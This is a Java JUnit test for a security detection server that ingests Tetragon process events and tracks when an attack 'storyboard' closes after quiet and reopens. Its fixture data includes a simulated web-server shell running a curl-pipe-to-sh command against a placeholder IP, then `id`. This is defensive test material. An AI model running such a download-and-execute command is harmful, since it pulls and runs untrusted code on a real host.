package io.sightline.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.sightline.engine.EngineConfig;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A storyboard whose trail went quiet is still served, marked closed, and the event stream says
 * when it closed and when its attacker came back. The server closes a storyboard after 10 minutes
 * of quiet here (the engine checks once per 5-minute retention).
 */
class StoryboardLifecycleApiTest {

    private static final Instant T0 = Instant.parse("2026-11-14T09:00:00Z");
    private static final String CONTAINER = "containerd://" + "ab12".repeat(16);

    @TempDir
    Path dir;

    @Test
    void aClosedStoryboardIsServedAsClosedAndReopensUnderItsIdWhenItsShellRunsAgain() throws Exception {
        EngineConfig engine = EngineConfig.DEFAULTS.withLifecycle(Duration.ofMinutes(10), Duration.ofHours(1));
        ServerConfig config = new ServerConfig(
                "127.0.0.1",
                0,
                TestServer.storeUrl("sqlite", dir),
                ServerConfig.DEFAULT_QUEUE_CAPACITY,
                engine,
                TestServer.KEV);
        try (TestServer server = TestServer.start(config)) {
            BlockingQueue<String> lines = subscribe(server);
            assertThat(EventStreamTest.next(lines, "event: ready")).isTrue();

            // ingest/tetragon:1 and :2 — nginx, then the shell it spawns, a minute later.
            ObjectNode nginx = process("nginx-1", 100, "/usr/sbin/nginx", "-g daemon off;", T0.minusSeconds(60));
            ObjectNode shell = process("sh-1", 200, "/bin/sh", "-c \"curl http://203.0.113.9/x | sh\"", T0);
            post(server, exec(nginx, null, T0.minusSeconds(60)), exec(shell, nginx, T0));
            assertThat(EventStreamTest.next(lines, "event: created")).isTrue();
            String id = server.getJson("/api/v1/storyboards")
                    .path("storyboards")
                    .get(0)
                    .path("id")
                    .asText();

            // ingest/tetragon:3 to :8 — a job on another node every 4 minutes, for 24 minutes: the
            // 10 minutes of quiet after the shell end at 10 min, checked by 15 min at the latest.
            List<String> jobs = new ArrayList<>();
            for (int i = 1; i <= 6; i++) {
                Instant at = T0.plusSeconds(240L * i);
                ObjectNode job = process("job-" + i, 1000 + i, "/bin/date", "", at);
                job.remove("pod");
                jobs.add(exec(job, null, at));
            }
            post(server, jobs.toArray(String[]::new));
            assertThat(EventStreamTest.next(lines, "event: closed")).isTrue();

            JsonNode listed = server.getJson("/api/v1/storyboards").path("storyboards");
            assertThat(listed).hasSize(1);
            assertThat(listed.get(0).path("id").asText()).isEqualTo(id);
            assertThat(listed.get(0).path("closed").asBoolean()).isTrue();
            JsonNode closed = server.getJson("/api/v1/storyboards/" + id);
            assertThat(closed.path("closed").asBoolean()).isTrue();
            assertThat(closed.path("closed_at").asText()).isNotEmpty();
            assertThat(evidence(closed)).containsExactly("ingest/tetragon:2");

            // ingest/tetragon:9 — the shell, still running, starts id: the attacker is back.
            Instant back = T0.plusSeconds(1500);
            post(server, exec(process("id-1", 300, "/usr/bin/id", "", back), shell, back));
            assertThat(EventStreamTest.next(lines, "event: reopened")).isTrue();

            JsonNode reopened = server.getJson("/api/v1/storyboards/" + id);
            assertThat(reopened.path("closed").asBoolean()).isFalse();
            assertThat(reopened.path("closed_at").asText()).isEmpty();
            assertThat(evidence(reopened)).containsExactly("ingest/tetragon:2", "ingest/tetragon:9");
        }
    }

    private static BlockingQueue<String> subscribe(TestServer server) throws Exception {
        BlockingQueue<String> lines = new LinkedBlockingQueue<>();
        HttpRequest request = HttpRequest.newBuilder(server.uri("/api/v1/events"))
                .header("Authorization", "Bearer " + server.viewer)
                .header("Accept", "text/event-stream")
                .build();
        HttpResponse<Stream<String>> response = server.http
                .sendAsync(request, HttpResponse.BodyHandlers.ofLines())
                .get(10, TimeUnit.SECONDS);
        assertThat(response.statusCode()).isEqualTo(200);
        Thread.ofVirtual().start(() -> {
            try {
                response.body().forEach(lines::add);
            } catch (java.io.UncheckedIOException closed) {
                // The server closed the stream at the end of the test.
            }
        });
        return lines;
    }

    private static void post(TestServer server, String... records) throws Exception {
        JsonNode answer = server.postJson("/api/v1/ingest/tetragon", String.join("\n", records) + "\n");
        assertThat(answer.path("accepted").asInt()).isEqualTo(records.length);
        server.awaitIngested();
    }

    private static List<String> evidence(JsonNode storyboard) {
        List<String> records = new ArrayList<>();
        storyboard
                .path("records")
                .forEach(r -> records.add(
                        r.path("file").asText() + ":" + r.path("line").asInt()));
        return records;
    }

    /** A Tetragon process object of a pod's container on node-1. */
    private static ObjectNode process(String execId, long pid, String binary, String arguments, Instant start) {
        ObjectNode process = TestServer.JSON.createObjectNode();
        process.put("exec_id", execId);
        process.put("pid", pid);
        process.put("binary", binary);
        process.put("arguments", arguments);
        process.put("start_time", start.toString());
        ObjectNode pod = process.putObject("pod");
        pod.put("namespace", "shop");
        pod.put("name", "web-1");
        pod.putObject("container").put("id", CONTAINER).put("name", "web");
        return process;
    }

    private static String exec(ObjectNode process, ObjectNode parent, Instant time) {
        ObjectNode record = TestServer.JSON.createObjectNode();
        ObjectNode exec = record.putObject("process_exec");
        exec.set("process", process);
        if (parent != null) {
            exec.set("parent", parent);
        }
        record.put("node_name", process.has("pod") ? "node-1" : "node-2");
        record.put("time", time.toString());
        return record.toString();
    }
}
